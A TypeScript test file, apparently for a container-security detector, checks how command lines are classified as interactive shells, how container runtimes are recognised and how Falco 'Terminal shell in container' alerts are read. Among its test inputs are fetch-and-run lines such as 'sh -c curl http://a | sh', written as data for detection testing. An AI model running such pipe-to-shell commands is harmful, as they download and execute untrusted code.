import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  isInteractiveShell,
  isRuntime,
  isShell,
  isTerminalShell,
  startedByRuntime,
} from '../../../../../../services/detector/sessions/evasion/shells.ts';

function interactive(commandLine: string): boolean {
  return isInteractiveShell({ commandLine });
}

describe('a shell that waits for what is typed', () => {
  it.each([
    ...['sh', 'sh ', 'bash', '/bin/bash', '-bash', '/bin/sh -', 'ash -l', 'zsh --login -i'],
    ...['bash -il', 'bash --norc --noprofile', 'bash --rcfile /tmp/rc -i', 'sh -o vi', 'dash -s'],
    ...['busybox sh', '/bin/busybox ash -l', 'toybox sh', 'fish', 'ksh93', 'sh -x', 'bash --'],
    ...['env TERM=xterm bash', 'env SPO_EXEC_REQUEST_UID=866ee807 sh', 'env -i bash', 'exec bash'],
    ...['sh -c bash', 'sh -c exec bash', 'sh -c clear; (bash || ash || sh)', 'bash -lc exec sh -i'],
    'sh -c TERM=xterm-256color; export TERM; [ -x /bin/bash ] && exec /bin/bash || exec /bin/sh',
  ])('is %j', (commandLine) => {
    expect(interactive(commandLine)).toBe(true);
  });

  it.each([
    ...['', ' ', 'ls', 'sh /probe.sh', 'bash -c ls -l', 'sh -c echo hello', 'sh -ec exit 1'],
    ...['bash script.sh', '/bin/sh ./start', 'ssh host', 'sshd', 'push', 'busybox ls', 'busybox'],
    ...['sh -c curl http://a | sh', 'sh -c wget -qO- a | (bash)', 'bash < /tmp/x', 'rcfile bash x'],
    ...['sh -c bash -c ls', 'env', 'env A=b', 'sh -c', 'bash --version', 'sh --help', 'grep bash'],
  ])('is not %j', (commandLine) => {
    expect(interactive(commandLine)).toBe(false);
  });

  it('is not known where no command is', () => {
    expect(isInteractiveShell({})).toBe(false);
  });

  it('is told of any text, in a time that grows with its length only', () => {
    fc.assert(fc.property(fc.string({ unit: 'binary' }), (text) => !interactive(`x${text}`)));
    const hostile = ['sh -c '.repeat(1300), `sh -c ${'('.repeat(8000)}`, `sh${' '.repeat(8000)}-c`];
    for (const piece of ['; ', '| ', 'sh ', 'A=b ', '-', '"', 'exec ', '{}', '-l']) {
      hostile.push(piece.repeat(8192 / piece.length), `sh -c ${piece.repeat(4000)}`);
    }
    for (const text of hostile) expect(typeof interactive(text)).toBe('boolean');
    expect(interactive(`sh ${' '.repeat(10_000)}`)).toBe(false);
  });
});

describe('a runtime', () => {
  it('is known by its name, wherever it lies', () => {
    for (const program of [
      ...['runc', '/usr/bin/crun', '/usr/sbin/runc', 'conmon', '/usr/bin/containerd-shim-runc-v2'],
      ...['/usr/bin/youki', 'kata-agent', 'runc:[2:INIT]', '/usr/bin/runc (deleted)'],
      '/memfd:runc_cloned:/proc/self/exe (deleted)',
    ]) {
      expect([program, isRuntime(program)]).toEqual([program, true]);
    }
    for (const program of [
      '',
      '/',
      '/bin/bash',
      'truncate',
      '/runc/x',
      'xrunc',
      'containerd-ctl',
    ]) {
      expect([program, isRuntime(program)]).toEqual([program, false]);
    }
  });

  it('is what called, as the node tells it', () => {
    expect(startedByRuntime({ executable: '/usr/bin/crun' })).toBe(true);
    expect(startedByRuntime({ executable: '/bin/dash' })).toBe(false);
    expect(startedByRuntime({})).toBe(false);
  });
});

it('a shell is known by its name', () => {
  expect(['/bin/dash', '-bash', 'busybox'].map(isShell)).toEqual([true, true, true]);
  expect(['/usr/bin/ssh', 'java', ''].map(isShell)).toEqual([false, false, false]);
});

describe('a shell at a terminal, as Falco tells it', () => {
  const alert = { rule: 'Anything', hasTerminal: true, processName: 'bash' };

  it('has a terminal and nothing to run', () => {
    expect(isTerminalShell(alert)).toBe(true);
    expect(isTerminalShell({ ...alert, commandLine: 'bash -i' })).toBe(true);
    expect(isTerminalShell({ ...alert, commandLine: 'bash -c ls' })).toBe(false);
    expect(isTerminalShell({ ...alert, hasTerminal: false })).toBe(false);
    expect(isTerminalShell({ ...alert, processName: 'vi' })).toBe(false);
    expect(isTerminalShell({ rule: 'Anything', hasTerminal: true, executable: '/bin/sh' })).toBe(
      true,
    );
  });

  it('is what Falco’s own rule says', () => {
    const rule = 'Terminal shell in container';
    expect(isTerminalShell({ rule, commandLine: 'sh' })).toBe(true);
    expect(isTerminalShell({ rule, commandLine: 'sh /x' })).toBe(false);
    expect(isTerminalShell({ rule })).toBe(false);
  });
});
